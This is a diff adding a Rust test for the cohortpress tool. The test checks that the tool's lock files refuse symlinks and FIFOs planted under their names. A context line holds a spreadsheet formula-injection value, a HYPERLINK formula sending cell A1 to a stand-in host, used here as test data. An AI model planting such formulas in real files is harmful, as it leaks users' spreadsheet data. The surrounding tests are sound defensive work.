@@ -1016,3 +1016,83 @@ fn a_name_written_as_a_formula_reaches_the_followup_csv_as_text() {
         assert_eq!(n, r#"'=HYPERLINK("http://x.example/?"&A1,"open")"#);
     }
 }
+
+/// The run's two lock files (`.NAME.lock` beside the output folder, `ledger.lock` in the
+/// ledger's folder) were opened with create-and-write, following a link planted under their
+/// name: a dangling link made the run create a file wherever it pointed, outside the output
+/// folder (in a shared folder, anyone can plant one for a cron job to follow). Neither is
+/// followed now; the run stops before writing anything, and says which link to remove.
+#[cfg(unix)]
+#[test]
+fn lock_files_are_never_opened_through_a_link() {
+    let t = ProgramTest::demo(2);
+    let base = t.dir.parent().unwrap();
+    let elsewhere = base.join("elsewhere");
+    std::fs::create_dir(&elsewhere).unwrap();
+    let o = out(&t);
+    let run = || {
+        t.run(&[
+            "run",
+            "{dir}",
+            "--as-of",
+            AS_OF,
+            "--formats",
+            "html",
+            "--out",
+            &o,
+        ])
+    };
+
+    std::os::unix::fs::symlink(elsewhere.join("made-by-lock"), base.join(".out.lock")).unwrap();
+    let r = run();
+    assert_eq!(
+        r.code,
+        cohortpress::exit_code::OUTPUT_FAILED,
+        "{}",
+        r.stderr
+    );
+    assert!(r.stderr.contains(".out.lock"), "{}", r.stderr);
+    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
+    assert!(!elsewhere.join("made-by-lock").exists());
+    assert!(!Path::new(&o).exists(), "nothing was published");
+
+    std::fs::remove_file(base.join(".out.lock")).unwrap();
+    let ledger = base.join("out.ledger");
+    std::fs::create_dir(&ledger).unwrap();
+    std::os::unix::fs::symlink(elsewhere.join("made-by-ledger"), ledger.join("ledger.lock"))
+        .unwrap();
+    let r = run();
+    assert_eq!(
+        r.code,
+        cohortpress::exit_code::OUTPUT_FAILED,
+        "{}",
+        r.stderr
+    );
+    assert!(r.stderr.contains("ledger.lock"), "{}", r.stderr);
+    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
+    assert!(!elsewhere.join("made-by-ledger").exists());
+    assert!(!Path::new(&o).exists(), "nothing was published");
+    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
+
+    // A FIFO under the lock's name made the run wait for ever for a reader (a cron job that
+    // never ends); it is refused like any file that is not a regular one.
+    std::fs::remove_file(ledger.join("ledger.lock")).unwrap();
+    std::fs::remove_file(base.join(".out.lock")).unwrap();
+    let fifo = Command::new("mkfifo")
+        .arg(base.join(".out.lock"))
+        .status()
+        .unwrap();
+    assert!(fifo.success());
+    let r = run();
+    assert_eq!(
+        r.code,
+        cohortpress::exit_code::OUTPUT_FAILED,
+        "{}",
+        r.stderr
+    );
+    assert!(r.stderr.contains("not a regular file"), "{}", r.stderr);
+    std::fs::remove_file(base.join(".out.lock")).unwrap();
+
+    // With the link gone the run goes ahead.
+    assert_eq!(run().code, cohortpress::exit_code::SUCCESS);
+}
